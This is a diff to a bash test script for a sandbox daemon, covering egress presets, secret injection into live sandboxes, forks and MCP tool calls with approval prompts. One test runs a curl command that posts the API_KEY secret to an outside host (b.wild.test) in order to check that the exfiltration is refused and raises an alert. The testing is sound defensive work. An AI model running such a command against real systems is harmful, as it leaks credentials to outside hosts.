@@ -1,5 +1,7 @@
 #!/bin/bash
 # SPDX-License-Identifier: Apache-2.0
+# red: keeper-tenant
+#
 # With a daemon: it makes the sandbox, the caller has the gate. By HTTP: runs and sandboxes that live.
 . "$(dirname "$0")/../lib/egress.sh"
 . "$LIB_DIR/daemon.sh"
@@ -110,18 +112,95 @@ quotas()
 	api DELETE /v1/sandboxes/q
 }
 
-# as TOKEN METHOD PATH BODY: by TCP, on the daemon's side of the network. Sets OUT and RC.
+# Hosts of presets are those of this machine's configuration, for who runs the daemon; in policies over HTTP as well.
+presets()
+{
+	local get='curl -s -o /dev/null -w \"%{http_code} \" http://good.test/; curl -s -o /dev/null -w \"%{http_code}\" -d x http://good.test/'
+	local policy='"policy": {"allow": [{"preset": "pip"}]}'
+
+	api POST /v1/runs "{\"command\": \"$get\", $policy$LIMITS}"
+	check "presets: of a run, for reading alone" grep -q '"text": *"200 403"' "$OUT"
+	check "presets: which the rule says" grep -q '"rule": *"preset pip: good.test"' "$OUT"
+	api POST /v1/sandboxes "{\"name\": \"p\", $policy$LIMITS}"
+	api POST /v1/sandboxes/p/exec "{\"command\": \"$get\"}"
+	check "presets: of a sandbox that lives" grep -q '"text": *"200 403"' "$OUT"
+	api PUT /v1/sandboxes/p/policy '{"policy": {"allow": []}}'
+	api PUT /v1/sandboxes/p/policy "{$policy}"
+	check "presets: and of a policy that it gets later" grep -q 'preset pip: good.test' "$OUT"
+	api DELETE /v1/sandboxes/p
+	api POST /v1/workspaces/net/exec "{\"command\": \"$get\", $policy$LIMITS}"
+	check "presets: of a command in a workspace" grep -q '"text": *"200 403"' "$OUT"
+}
+
+# as TOKEN METHOD PATH BODY [CURL-OPTION...]: by TCP, on the daemon's side of the network. Sets OUT and RC.
 as()
 {
 	call_files curl "${@:2}"
 	RC=$("${CALL_OUTER[@]}" /usr/bin/curl -sS -m 60 -H "Content-Type: application/json" -H "Authorization: Bearer $1" \
-		-X "$2" -d "$4" -o "$OUT" -w '%{http_code}' "http://127.0.0.1:$PORT$3" 2>"$ERR")
+		-X "$2" -d "$4" "${@:5}" -o "$OUT" -w '%{http_code}' "http://127.0.0.1:$PORT$3" 2>"$ERR")
 }
 
 # keys VALUE: how often the servers were sent it.
 keys()
 {
 	grep -cF "$1" "$NET/far/keys"
+}
+
+# mcp_exec TOKEN COMMAND [MORE]: by MCP, of an era without sessions; its client can show forms.
+mcp_exec()
+{
+	as "$1" POST /mcp '{"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "sandbox_exec", "arguments": {"command": "'"$2"'"},
+		"_meta": {"io.modelcontextprotocol/protocolVersion": "2026-07-28",
+		"io.modelcontextprotocol/clientCapabilities": {"elicitation": {"form": {}}}}'"${3:-}"'}}' \
+		-H "Mcp-Protocol-Version: 2026-07-28" -H "Mcp-Method: tools/call" -H "Mcp-Name: sandbox_exec"
+}
+
+# The same in sandboxes that live. Variables of secrets().
+secrets_live()
+{
+	local box mark other evil='{host: b.wild.test, port: 443, protocol: https}'
+
+	policy="${policy%]}, $evil]"
+	as "$two" POST /v1/sandboxes "{\"policy\": \"$policy\"$LIMITS}"
+	check "secrets: a sandbox of who has none is not made" test "$RC" = 404
+	check "secrets: which names the secret" grep -q '"message": *"there is no secret API_KEY"' "$OUT"
+	check "secrets: and who can help" grep -q 'pinfold secret set API_KEY --tenant two' "$OUT"
+	check "secrets: and no path" test "$(grep -c "$M" "$OUT")" = 0
+	as "$one" POST /v1/sandboxes "{\"policy\": \"$policy\"$LIMITS}"
+	check "secrets: his sandbox that lives" test "$RC" = 201
+	box=/v1/sandboxes/$(grep -o 'sbx[a-z2-7]*' "$OUT" | head -n1)
+	as "$one" POST "$box/exec" '{"command": "echo $API_KEY; curl -s https://good.test/echo"}'
+	mark=$(grep -o 'pfs_[a-z2-7]*' "$OUT" | head -n1)
+	check "secrets: has a placeholder" test -n "$mark"
+	check "secrets: whose value the server gets" test "$(keys "Bearer $value")" = 2
+	check "secrets: and which does not come back" test "$(grep -c "$value" "$OUT")" = 0
+	as "$one" POST "$box/exec" '{"command": "curl -s -o /dev/null -w %{http_code} -d $API_KEY https://b.wild.test/"}'
+	check "secrets: elsewhere it is refused" grep -q '"text": *"502"' "$OUT"
+	check "secrets: with an alarm" grep -q '"alerts": *\[{"rule": *"secret"' "$OUT"
+	as "$one" POST "$box/sessions" '{"lang": "bash", "name": "s"}'
+	as "$one" POST "$box/sessions/s/execute" '{"code": "curl -s -o /dev/null -H \"Authorization: Bearer $API_KEY\" https://good.test/"}'
+	check "secrets: an interpreter in it has it, too" test "$(keys "Bearer $value")" = 3
+	as "$one" POST "$box/fork" '{}'
+	other=/v1/sandboxes/$(grep -o 'sbx[a-z2-7]*' "$OUT" | head -n1)
+	as "$one" POST "$other/exec" '{"command": "env"}'
+	check "secrets: a fork has none" test "$RC$(grep -c pfs_ "$OUT")" = 2000
+	as "$one" PUT "$box/policy" "{\"policy\": \"allow: [good.test]\"}"
+	as "$one" POST "$box/exec" '{"command": "curl -s -o /dev/null -H \"Authorization: Bearer $API_KEY\" https://good.test/"}'
+	check "secrets: a policy without it takes it away" test "$(keys "Bearer $value")" = 3
+	as "$one" PUT "$box/policy" "{\"policy\": \"${policy//API_KEY/OTHER}\"}"
+	check "secrets: none is added later" test "$RC" = 409
+	mcp_exec "$one" 'curl -s -o /dev/null -w %{http_code} https://good.test/'
+	check "secrets: by MCP the policy of the server injects them" grep -q 'stdout:.n200' "$OUT"
+	mcp_exec "$one" 'env true; echo $?'
+	check "asked: a rule's question is the client's to show" grep -q '"resultType":"input_required".*the command env true' "$OUT"
+	mcp_exec "$one" 'env true; echo $?' ', "inputResponses": {"approval": {"action": "accept", "content": {"decision": "once"}}},
+		"requestState": "'"$(sed 's/.*"requestState":"\([^"]*\)".*/\1/' "$OUT")"'"'
+	check "asked: and what was begun goes on with the answer" grep -q 'stdout:.n0.n' "$OUT"
+	mcp_exec "$two" true
+	check "secrets: and who has none gets no sandbox" grep -q 'not_found.secret.*API_KEY --tenant two' "$OUT"
+	check "secrets: the server gets the value by MCP" test "$(keys "Bearer $value")" = 4
+	as "$one" DELETE "$box" ''
+	as "$one" DELETE "$other" ''
 }
 
 # A tenant's secret is for his runs, put there by who runs the daemon. Red where the keeper does not go to the
@@ -159,10 +238,8 @@ secrets()
 	check "secrets: another tenant has none of that name" grep -q '"code": *"not_found' "$OUT"
 	api POST /v1/runs "$run"
 	check "secrets: who runs the daemon has his own" test "$(keys "Bearer own-$value")" = 1
-	as "$one" POST /v1/sandboxes "{\"policy\": \"$policy\"$LIMITS}"
-	check "secrets: a sandbox that lives gets none" grep -q '"code": *"unsupported"' "$OUT"
-	check "secrets: and no path is told" test "$(grep -c "$M" "$OUT")" = 0
-	check "secrets: none of them reached the server" test "$(keys "$value")" = 2
+	secrets_live
+	check "secrets: no other reached the server" test "$(keys "$value")" = 5
 	check "secrets: the value is in no file, log or answer" test -z "$(grep -rlF "$value" "$M/home" "$M/run" "$DAEMON_LOG" "$EVIDENCE")"
 	pinfold secret rm API_KEY --tenant one
 	as "$one" POST /v1/runs "$run"
@@ -181,10 +258,15 @@ checks()
 	forget
 	BEST=()
 	[ "$MODE" = R ] || BEST=(--limits best-effort)
-	serve_start
+	echo 'allow: [{host: good.test, port: 443, inject: {secret: API_KEY, header: Authorization, prefix: "Bearer "}}]
+commands: [{ask: env true}]' >"$W/mcp.yaml"
+	own "$W/mcp.yaml"
+	CALL_ENV+=(PIP_INDEX_URL=http://good.test/simple)
+	serve_start --mcp-policy "$W/mcp.yaml"
 	caller
 	by_http
 	apart
+	presets
 	quotas
 	secrets
 	untouched "all of it"
